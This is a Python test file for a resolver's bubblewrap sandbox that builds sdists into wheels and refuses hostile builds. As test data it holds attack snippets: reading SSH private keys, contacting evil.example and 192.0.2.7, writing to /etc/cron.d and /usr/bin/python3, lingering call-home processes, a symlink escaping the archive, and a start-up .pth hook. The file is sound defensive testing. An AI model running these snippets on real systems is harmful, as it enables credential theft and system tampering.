"""P2: sdists are built in a sandbox. Real attacks on a real one, and what is left of each: nothing."""

from __future__ import annotations

import hashlib
import os
import platform
import signal
import socket
import subprocess
import tarfile
import tempfile
import time
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

from resolver.errors import CommandError, DistrofirstError, PolicyError, UnavailableError
from resolver.io.cache import FileCache
from resolver.io.http import HttpClient, HttpOptions
from resolver.io.process import ProcessRunner
from resolver.model import Command, Completed, Release, Target, Wheel
from resolver.pypi.builder import Pinned, SandboxBuilder
from resolver.pypi.building import Limits
from resolver.pypi.fetching import Fetcher
from resolver.pypi.git import Git
from resolver.pypi.wheelhouse import Wheelhouse
from tests.loopback import Loopback, Reply
from tests.sdists import add, no_sandbox, sdist_bytes, serve_sdist
from tests.simple_server import metadata_text, wheel_bytes
from tests.unit.venv.samples import lock
from tests.wheels import build as build_wheel

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence


PYTHON = "/usr/bin/python3"
SANDBOX = pytest.mark.skipif(no_sandbox() is not None, reason=str(no_sandbox()))
SITE = ("/usr/lib/python3/dist-packages",)
BRIEF = Limits(seconds=20, space=64 << 20, output=32 << 20)


def _version() -> str:
    asked = [PYTHON, "-c", "import sys; print('%d.%d' % sys.version_info[:2])"]
    return subprocess.run(asked, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture
def server() -> Iterator[Loopback]:
    with Loopback() as loopback:
        yield loopback


class Counted(ProcessRunner):
    """The real runner, which remembers how often a sandbox was made."""

    def __init__(self) -> None:
        super().__init__()
        self.steps = 0

    def run(self, command: Command) -> Completed:
        self.steps += "prlimit" in command.argv
        return super().run(command)


class Shop:
    """A builder, its index, and everything that it leaves behind."""

    def __init__(self, folder: Path, server: Loopback) -> None:
        self.folder = folder
        self.server = server
        self.runner = Counted()
        self.wheels: dict[str, Wheel] = {}
        self.asked: list[tuple[str, ...]] = []
        self.cache = FileCache(folder / "cache", warn=pytest.fail)
        self.http = HttpClient(self.cache, HttpOptions(timeout=5, retries=0))

    def elsewhere(self) -> Shop:
        """Give one that has built nothing yet."""
        other = Shop(self.folder / "elsewhere", self.server)
        other.http = self.http
        return other

    def house(self) -> Wheelhouse:
        return Wheelhouse(
            lambda: self.folder / "built",
            lambda: self.http,
            self.cache,
            rebuild=lambda wheel: self.builder().rebuild(wheel),
        )

    def builder(self, limits: Limits = BRIEF) -> SandboxBuilder:
        return SandboxBuilder(
            fetcher=Fetcher(lambda: self.http, Git(self.runner, offline=False)),
            runner=self.runner,
            cache=self.cache,
            wheels=self.house(),
            target=Target(
                release=Release(distribution="debian", version="13"),
                architecture="amd64" if platform.machine() == "x86_64" else "arm64",
                python=_version(),
                glibc="2.36",
                is_host=True,
            ),
            interpreter=PYTHON,
            site_directories=SITE,
            pin=self.pin,
            progress=lambda _: None,
            limits=limits,
        )

    def pin(self, texts: Sequence[str], whose: str) -> Pinned:
        self.asked.append(tuple(texts))
        missing = [text for text in texts if text not in self.wheels]
        if missing:
            raise PolicyError(f"no wheel for {', '.join(missing)}", context=whose)
        return Pinned(wheels=tuple(self.wheels[text] for text in texts))

    def build(self, data: bytes, limits: Limits = BRIEF) -> Wheel:
        return self.builder(limits).build(serve_sdist(self.server, data))

    def offer(self, name: str, data: bytes) -> None:
        filename = f"{name}-1.0-py3-none-any.whl"
        self.wheels[name] = Wheel(
            project=canonicalize_name(name),
            version=Version("1.0"),
            filename=filename,
            url=self.server.add(f"/files/{filename}", Reply(body=data)),
            sha256=hashlib.sha256(data).hexdigest(),
            size=len(data),
            requires_python=None,
            upload_time=None,
        )


@pytest.fixture
def shop(tmp_path: Path, server: Loopback, monkeypatch: pytest.MonkeyPatch) -> Iterator[Shop]:
    """Give a builder with a folder for temporary files of its own, which is empty again in the end."""
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    shop = Shop(tmp_path, server)
    yield shop
    shop.http.close()
    assert list(temporary.iterdir()) == []


def refusal(shop: Shop, data: bytes, kind: type[DistrofirstError] = PolicyError, limits: Limits = BRIEF) -> str:
    """Build, and give the words of the refusal; nothing is kept then."""
    with pytest.raises(kind) as caught:
        shop.build(data, limits)
    assert type(caught.value) is kind
    assert caught.value.context == "zz_built-1.0.tar.gz"
    built = shop.folder / "built"
    assert not built.exists() or list(built.iterdir()) == []
    return caught.value.message


# What is good ---------------------------------------------------------------------------------------------------


@SANDBOX
def test_P2_a_good_sdist_becomes_a_wheel(shop: Shop) -> None:
    builder = shop.builder()
    sdist = serve_sdist(shop.server, sdist_bytes(metadata="Requires-Dist: requests>=2\nProvides-Extra: more\n"))
    wheel = builder.build(sdist)
    assert wheel.filename == "zz_built-1.0-py3-none-any.whl"
    assert hashlib.sha256(shop.house().place(wheel).read_bytes()).hexdigest() == wheel.sha256
    assert builder.metadata(wheel).requires_dist == ("requests>=2",)
    assert wheel.built is not None
    assert (wheel.built.source, wheel.built.requires) == (sdist, ())
    assert shop.asked == [()]


@SANDBOX
def test_P2_what_was_built_is_found_again(shop: Shop) -> None:
    first = shop.build(sdist_bytes())
    assert shop.runner.steps == 2  # get_requires_for_build_wheel, build_wheel
    downloads = len(shop.server.requests)
    assert shop.build(sdist_bytes()) == first
    assert (shop.runner.steps, len(shop.server.requests)) == (2, downloads)


@SANDBOX
def test_P2_a_damaged_wheel_is_built_again(shop: Shop) -> None:
    builder = shop.builder()
    first = builder.build(serve_sdist(shop.server, sdist_bytes()))
    shop.house().place(first).write_bytes(b"something else")
    again = shop.builder().build(serve_sdist(shop.server, sdist_bytes()))
    assert again == first
    assert hashlib.sha256(shop.house().place(first).read_bytes()).hexdigest() == first.sha256


@SANDBOX
def test_R7_a_build_is_the_same_on_every_day(shop: Shop) -> None:
    code = """
        import time
        words = {"one", "two", "three", "four", "five", "six"}
        assert os.path.getmtime("own.py") == float(os.environ["SOURCE_DATE_EPOCH"])
        with open("order.txt", "w") as stream:
            stream.write(" ".join(words) + time.tzname[0] + os.getcwd() + os.environ["HOME"])
        text = open("order.txt").read()
        version = "1.0"
        with zipfile.ZipFile(os.path.join(folder, "zz_built-1.0-py3-none-any.whl"), "w") as archive:
            archive.write("own.py")
            archive.writestr(zipfile.ZipInfo("order.txt"), text)
            archive.writestr(zipfile.ZipInfo("zz_built-1.0.dist-info/METADATA"),
                "Metadata-Version: 2.1\\nName: zz_built\\nVersion: 1.0\\n")
        return "zz_built-1.0-py3-none-any.whl"
    """
    one = shop.build(sdist_bytes(code=code))
    elsewhere = shop.elsewhere()
    other = elsewhere.build(sdist_bytes(code=code))
    assert one.sha256 == other.sha256


@SANDBOX
def test_P2_build_requirements_are_wheels_by_hash(shop: Shop) -> None:
    shop.offer("zz_tool", wheel_bytes("zz_tool", "1.0", metadata_text("zz-tool", "1.0")))
    shop.offer("zz_more", wheel_bytes("zz_more", "1.0", metadata_text("zz-more", "1.0")))
    code = "import zz_tool, zz_more\nassert zz_tool.__file__.startswith('/build/env/lib/'), zz_tool.__file__"
    wheel = shop.build(sdist_bytes(requires=["zz_tool"], requires_code="import zz_tool\nreturn ['zz_more']", code=code))
    assert wheel.built is not None
    assert [one.project for one in wheel.built.requires] == ["zz-more", "zz-tool"]
    assert shop.asked == [("zz_tool",), ("zz_more", "zz_tool")]


@SANDBOX
def test_P2_a_build_sees_nothing_of_the_systems_python_packages(shop: Shop) -> None:
    code = """
        import sys
        assert not [place for place in sys.path if "dist-packages" in place or "/usr/local" in place], sys.path
        assert os.listdir("/usr/local") == []
    """
    shop.build(sdist_bytes(code=code))


# Attacks: what a build tries ------------------------------------------------------------------------------------


ATTACKS = {
    "reads a key": (
        "open('/root/.ssh/id_rsa').read()",
        "looked into a home folder: /root/.ssh/id_rsa",
    ),
    "reads a key below its own home": (
        "open(os.path.expanduser('~/.ssh/id_ed25519')).read()",
        "looked into a home folder: ~/.ssh/id_ed25519",
    ),
    "lists homes and hides it": (
        "try:\n    os.listdir('/home')\nexcept OSError:\n    pass",
        "looked into a home folder: /home",
    ),
    "opens a socket": (
        "import socket\nsocket.create_connection(('192.0.2.7', 443), 3)",
        "tried to reach the network: 192.0.2.7",
    ),
    "asks for a name and hides it": (
        "import urllib.request\ntry:\n    urllib.request.urlopen('http://evil.example/')\nexcept OSError:\n    pass",
        "tried to reach the network: evil.example",
    ),
    "writes to the system": (
        "open('/usr/bin/python3', 'ab').write(b'x')",
        "tried to write outside its own tree: /usr/bin/python3",
    ),
    "writes to /etc and hides it": (
        "try:\n    open('/etc/cron.d', 'w')\nexcept OSError:\n    pass",
        "tried to write outside its own tree: /etc/cron.d",
    ),
    "changes its own archive": (
        "open('/sdist/own.py', 'w')",
        "tried to write outside its own tree: /sdist/own.py",
    ),
    "changes the script that runs it": (
        "os.rename('/inside/step.py', '/inside/other.py')",
        "tried to write outside its own tree: /inside/step.py",
    ),
    "leaves a process running": (
        "if os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(300)\n    os._exit(0)",
        "left processes running: python",
    ),
    "fills the disk": (
        "for number in range(99):\n    open(f'{number}.bin', 'wb').write(b'x' * (4 << 20))",
        "wants more space than it may have",
    ),
    "fills one file": (
        "stream = open('/out/answer', 'ab')\nwhile True:\n    stream.write(b'x' * (1 << 20))",
        "wants more space than it may have",
    ),
    "gives a wheel of another name": ("name = 'requests'", "gave requests-1.0-py3-none-any.whl, expected a wheel of"),
    "gives a wheel of another version": ("version = '2.0'", "gave zz_built-2.0-py3-none-any.whl, expected a wheel of"),
    "gives a path": (
        "open(f'{folder}/x.whl', 'w')\nreturn '../dist/x.whl'",
        "which is no wheel's name",
    ),
    "gives no wheel at all": (
        "open(f'{folder}/zz_built-1.0-py3-none-any.whl', 'w')\nreturn 'zz_built-1.0-py3-none-any.whl'",
        "gave a file that is no wheel",
    ),
}


@SANDBOX
@pytest.mark.parametrize(("code", "message"), ATTACKS.values(), ids=ATTACKS)
def test_P2_attack(shop: Shop, code: str, message: str) -> None:
    assert message in refusal(shop, sdist_bytes(code=code))


@SANDBOX
def test_P2_attack_while_it_is_asked_for_requirements(shop: Shop) -> None:
    assert "tried to reach the network" in refusal(
        shop, sdist_bytes(requires_code="import socket\nsocket.gethostbyname('evil.example')")
    )


@SANDBOX
def test_P2_attack_sleeps_for_ever(shop: Shop) -> None:
    began = time.monotonic()
    told = refusal(shop, sdist_bytes(code="import time\ntime.sleep(600)"), limits=replace(BRIEF, seconds=3))
    assert told == "its build took longer than 3 s, and was stopped"
    assert time.monotonic() - began < 15


@SANDBOX
def test_P2_attack_through_a_lingering_process_that_would_call_home(shop: Shop) -> None:
    """Whatever it forks is gone with the sandbox, and a server of this machine never hears of it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        code = f"""
            if os.fork() == 0:
                os.setsid()
                import socket, time
                while True:
                    try:
                        socket.create_connection(("127.0.0.1", {port}), 1)
                    except OSError:
                        time.sleep(0.1)
        """
        assert "left processes running" in refusal(shop, sdist_bytes(code=code))
        listener.settimeout(0.5)
        with pytest.raises(TimeoutError):
            listener.accept()


@SANDBOX
def test_P2_attack_by_an_open_server_of_this_machine(shop: Shop) -> None:
    """Abstract sockets and 127.0.0.1 belong to the network, which is another one inside."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("\0distrofirst-test")
        listener.listen()
        code = """
            import socket
            for family, address in ((socket.AF_UNIX, "\\0distrofirst-test"), (socket.AF_INET, ("127.0.0.1", PORT))):
                try:
                    socket.socket(family).connect(address)
                except ConnectionRefusedError:
                    continue
                raise SystemExit(f"reached {address}")
        """.replace("PORT", str(shop.server.port))
        shop.build(sdist_bytes(code=code))


@SANDBOX
def test_P2_attack_finds_no_rights_and_no_secrets(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/run/agent")
    code = """
        import ctypes
        status = dict(line.split(":", 1) for line in open("/proc/self/status"))
        assert (os.getuid(), os.getgid(), os.geteuid()) == (65534,) * 3, os.getuid()
        assert {status[name].strip().strip("0") for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} == {""}
        assert status["NoNewPrivs"].strip() == "1"
        assert os.getgroups() in ([], [65534]), os.getgroups()
        names = {"HOME", "LC_ALL", "PATH", "PYTHONDONTWRITEBYTECODE", "PYTHONHASHSEED", "SOURCE_DATE_EPOCH", "TMPDIR",
            "TZ", "VIRTUAL_ENV", "PWD", "_"}
        assert set(os.environ) <= names, os.environ
        for place in ("/", "/etc"):
            there = set(os.listdir(place))
            allowed = {"bin", "sbin", "lib", "lib32", "lib64", "libx32", "usr", "etc", "proc", "dev", "tmp", "build"}
            allowed |= {"sdist", "wheels", "inside", "out", "passwd", "alternatives"}
            assert not {one for one in there if not one.startswith("ld.so")} - allowed, there
        libc = ctypes.CDLL(None, use_errno=True)
        assert libc.setuid(0) == -1
        assert libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == -1
        assert libc.chroot(b"/tmp") == -1
        assert not [one for one in os.listdir("/dev") if one.startswith(("sd", "vd", "mem", "kmsg"))]
    """
    shop.build(sdist_bytes(code=code))


@SANDBOX
def test_P2_attack_on_this_process(shop: Shop) -> None:
    """Nobody outside can be seen, let alone be sent a signal."""
    code = f"""
        import signal
        assert {os.getpid()} not in map(int, filter(str.isdigit, os.listdir("/proc"))) or {os.getpid()} < 20
        for pid in ({os.getpid()}, {os.getppid()}):
            if pid > 20:
                try:
                    os.kill(pid, signal.SIGKILL)
                except ProcessLookupError:
                    continue
                raise SystemExit("found it")
    """
    shop.build(sdist_bytes(code=code))


@SANDBOX
def test_P2_a_build_that_fails_is_no_refusal(shop: Shop) -> None:
    told = refusal(shop, sdist_bytes(code="raise RuntimeError('no compiler \\x1b[31m')"), CommandError)
    assert told == "its build failed: RuntimeError: no compiler ?[31m"


@SANDBOX
@pytest.mark.parametrize("end", ["os._exit(3)", "raise SystemExit(3)", "os.kill(os.getpid(), 9)"])
def test_P2_a_build_that_just_ends(shop: Shop, end: str) -> None:
    assert refusal(shop, sdist_bytes(code=end), CommandError).startswith("its build failed: ")


@SANDBOX
def test_P2_a_killed_run_takes_its_sandbox_along(shop: Shop) -> None:
    """What starts the build is ended; so is the build."""
    marker = f"sleep-{os.getpid()}"
    code = f"import ctypes, time\nctypes.CDLL(None).prctl(15, b'{marker[:15]}', 0, 0, 0)\ntime.sleep(60)"
    builder, sdist = shop.builder(), serve_sdist(shop.server, sdist_bytes(code=code))
    child = os.fork()
    if child == 0:
        try:
            builder.build(sdist)
        finally:
            os._exit(0)
    try:
        assert _eventually(lambda: _running(marker[:15]))
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    assert _eventually(lambda: not _running(marker[:15]))
    for left in (shop.folder / "temporary").iterdir():
        subprocess.run(["rm", "-rf", str(left)], check=True)


def _running(name: str) -> bool:
    for entry in Path("/proc").glob("[0-9]*/comm"):
        try:
            if entry.read_text().strip() == name:
                return True
        except OSError:
            continue
    return False


def _eventually(check: Callable[[], bool], seconds: float = 15) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if check():
            return True
        time.sleep(0.05)
    return False


# Attacks: build requirements ------------------------------------------------------------------------------------


def test_P2_attack_by_a_build_requirement_without_a_hash(shop: Shop) -> None:
    told = refusal(shop, sdist_bytes(requires=["zz_tool @ https://evil.example/zz_tool-1.0-py3-none-any.whl"]))
    assert "names a place; only wheels of the index, pinned by hash" in told


@SANDBOX
def test_P2_attack_by_a_further_build_requirement_without_a_hash(shop: Shop) -> None:
    told = refusal(shop, sdist_bytes(requires_code="return ['zz_tool @ git+https://evil.example/x']"))
    assert "names a place" in told


def test_P2_a_build_requirement_that_is_not_there(shop: Shop) -> None:
    assert refusal(shop, sdist_bytes(requires=["zz_absent"])) == "no wheel for zz_absent"


def test_P2_attack_by_a_build_requirement_with_another_hash(shop: Shop) -> None:
    shop.offer("zz_tool", wheel_bytes("zz_tool", "1.0", metadata_text("zz-tool", "1.0")))
    shop.wheels["zz_tool"] = replace(shop.wheels["zz_tool"], sha256="0" * 64)
    with pytest.raises(PolicyError, match="the file's sha256 is"):
        shop.build(sdist_bytes(requires=["zz_tool"]))


def test_P2_attack_by_a_wheel_whose_name_is_a_path(shop: Shop) -> None:
    shop.offer("zz_tool", b"")
    shop.wheels["zz_tool"] = replace(shop.wheels["zz_tool"], filename="zz_tool-1.0-1/../../x-py3-none-any.whl")
    with pytest.raises(PolicyError, match="is no file name for a wheel"):
        shop.build(sdist_bytes(requires=["zz_tool"]))


@SANDBOX
def test_P2_attack_by_a_build_requirement_that_runs_at_start(shop: Shop) -> None:
    """A .pth file runs in every interpreter of the build environment, so it is in the sandbox too."""
    evil = f"import os; os.path.exists({str(shop.folder)!r}) and os._exit(66)\n"
    shop.offer("zz_tool", build_wheel({"zz_tool.py": "", "evil.pth": evil}, name="zz_tool"))
    shop.build(sdist_bytes(requires=["zz_tool"]))


def test_P4_a_build_requirement_is_looked_through_before_it_runs(shop: Shop) -> None:
    files = {"zz_tool.py": "", "evil.pth": "import os\n", "sitecustomize.py": "raise SystemExit\n"}
    shop.offer("zz_tool", build_wheel(files, name="zz_tool"))
    with pytest.raises(PolicyError) as caught:
        shop.build(sdist_bytes(requires=["zz_tool"]))
    assert "1 of 1 wheels must not be built with:" in caught.value.message
    assert "a module would be imported whenever Python starts: sitecustomize.py" in caught.value.message
    assert "evil.pth" not in caught.value.message
    assert shop.runner.steps == 0


@SANDBOX
def test_P4_what_was_built_is_looked_through_before_it_is_installed(shop: Shop) -> None:
    wheel = shop.build(sdist_bytes(module="sitecustomize"))
    with pytest.raises(PolicyError, match="a module would be imported whenever Python starts: sitecustomize"):
        shop.house().obtain(lock(wheels=(wheel,)))


def test_P2_an_sdist_that_is_not_the_one_of_the_index(shop: Shop) -> None:
    sdist = serve_sdist(shop.server, sdist_bytes())
    with pytest.raises(PolicyError, match="the file's sha256 is"):
        shop.builder().build(replace(sdist, sha256="0" * 64))
    with pytest.raises(UnavailableError, match="does not have it"):
        shop.builder().build(replace(sdist, sha256="1" * 64, url=f"{shop.server.url}/files/gone.tar.gz"))


# Attacks: the archive -------------------------------------------------------------------------------------------


def test_P2_attack_by_a_link_out_of_the_archive(shop: Shop) -> None:
    def escape(tar: tarfile.TarFile) -> None:
        add(tar, "zz_built-1.0/out", type=tarfile.SYMTYPE, linkname="../../../../../etc")
        add(tar, "zz_built-1.0/out/cron.d/evil", b"x")

    assert "is a link to '../../../../../etc', outside of it" in refusal(shop, sdist_bytes(change=escape))


# Without a sandbox ----------------------------------------------------------------------------------------------


def test_P2_without_bubblewrap_nothing_is_built(shop: Shop) -> None:
    class Without(Counted):
        def run(self, command: Command) -> Completed:
            if command.argv[0] == "bwrap":
                raise CommandError("bwrap is not there")
            pytest.fail(f"{command.argv} was run")

    shop.runner = Without()
    with pytest.raises(PolicyError, match="bubblewrap is not installed") as caught:
        shop.build(sdist_bytes())
    assert caught.value.hint == "install the OS package bubblewrap, then repeat the command"


# Locks ----------------------------------------------------------------------------------------------------------


@SANDBOX
def test_P2_a_locks_wheel_is_built_again(shop: Shop) -> None:
    shop.offer("zz_tool", wheel_bytes("zz_tool", "1.0", metadata_text("zz-tool", "1.0")))
    wheel = shop.build(sdist_bytes(requires=["zz_tool"]))
    elsewhere = shop.elsewhere()
    path = elsewhere.house().obtain(lock(wheels=(wheel,)))[wheel.project]
    assert hashlib.sha256(path.read_bytes()).hexdigest() == wheel.sha256
    assert (elsewhere.asked, elsewhere.runner.steps) == ([], 1)  # the lock has decided
    assert elsewhere.house().obtain(lock(wheels=(wheel,))) == {wheel.project: path}
    assert elsewhere.runner.steps == 1


@SANDBOX
def test_P2_a_build_that_comes_to_another_wheel_is_refused(shop: Shop) -> None:
    wheel = shop.build(sdist_bytes())
    other = replace(wheel, sha256="0" * 64)
    with pytest.raises(PolicyError) as caught:
        shop.house().obtain(lock(wheels=(other,)))
    assert wheel.sha256 in caught.value.message
    assert "0" * 64 in caught.value.message
    assert "make the lock anew on this host" in str(caught.value.hint)
